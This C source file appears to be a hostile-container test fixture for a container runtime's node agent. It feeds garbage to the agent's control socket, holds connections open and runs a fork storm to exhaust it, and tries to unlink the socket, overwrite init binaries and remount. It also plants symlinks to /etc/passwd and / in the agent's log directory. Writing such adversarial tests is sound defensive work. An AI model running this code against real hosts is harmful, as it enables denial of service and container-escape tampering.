/* A process in a container that means harm: talks to the agent's socket as if it were PID 1,
 * replaces what it can, and then serves a page that says what it achieved. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define ROOT "/.nodeagent/"

static FILE *page;

static void say(const char *what, int achieved)
{
    fprintf(page, "%s: %s\n", what, achieved ? "achieved" : strerror(errno));
}

/* Whether the agent kept the connection open after it was lied to. */
static int lie(const void *bytes, size_t length)
{
    struct sockaddr_un to = { .sun_family = AF_UNIX, .sun_path = ROOT "ctl/gate.sock" };
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) < 0) {
        /* The agent may use another type. */
        close(fd);
        fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
            return 0;
    }
    struct timeval patience = { .tv_sec = 2 };
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    send(fd, bytes, length, MSG_NOSIGNAL);
    char answer[256];
    ssize_t got = recv(fd, answer, sizeof answer, 0);
    if (got == 0)
        errno = ECONNRESET;
    int listened_to = got > 0 || (got < 0 && (errno == EAGAIN || errno == EWOULDBLOCK));
    close(fd);
    return listened_to;
}

/* Connects and hangs up as fast as it can, for ever: one process, and one that is new each time. */
static void storm(void)
{
    struct sockaddr_un to = { .sun_family = AF_UNIX, .sun_path = ROOT "ctl/gate.sock" };
    /* How often it got through, for who reads the page /storm. */
    int file = open("/www/storm", O_RDWR | O_CREAT | O_TRUNC, 0644);
    if (file < 0 || ftruncate(file, sizeof(unsigned long)) < 0)
        _exit(1);
    unsigned long *count = mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (count == MAP_FAILED)
        _exit(1);
    for (int forks = 0; forks < 2; forks++) {
        if (fork() != 0)
            continue;
        signal(SIGCHLD, SIG_IGN);
        for (;;) {
            if (forks && fork() != 0) {
                usleep(100);
                continue;
            }
            int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
            if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
                usleep(100);
            else
                __atomic_fetch_add(count, 1, __ATOMIC_RELAXED);
            close(fd);
            if (forks)
                _exit(0);
        }
    }
}

static int overwrite(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return 0;
    int written = write(fd, "mine", 4) == 4;
    close(fd);
    return written;
}

int main(void)
{
    page = fopen("/www/index.html", "w");
    if (page == NULL)
        return 1;
    static char noise[70000];
    memset(noise, 0xff, sizeof noise);
    say("noise", lie(noise, sizeof noise));
    say("emptiness", lie("", 0));
    for (int i = 0; i < 200; i++) {
        /* Connections that are never closed, to use the agent up. */
        struct sockaddr_un to = { .sun_family = AF_UNIX, .sun_path = ROOT "ctl/gate.sock" };
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
            break;
    }
    say("unlink the socket", unlink(ROOT "ctl/gate.sock") == 0);
    say("replace container-init", overwrite(ROOT "bin/container-init"));
    say("replace the plan", overwrite(ROOT "bin/plan"));
    say("rename bin", rename(ROOT "bin", ROOT "nib") == 0);
    say("remount", mount(NULL, ROOT "bin", NULL, MS_REMOUNT | MS_BIND, NULL) == 0);
    /* What it may write: make the agent follow it elsewhere. */
    unlink(ROOT "log/exits");
    symlink("/../../../../../../../../etc/passwd", ROOT "log/exits");
    mkfifo(ROOT "log/fifo", 0666);
    symlink("/", ROOT "log/root");
    fclose(page);
    if (getenv("STORM") != NULL)
        storm();
    execl("/bin/httpd", "httpd", "-f", "-p", "8080", "-h", "/www", (char *)NULL);
    return 1;
}
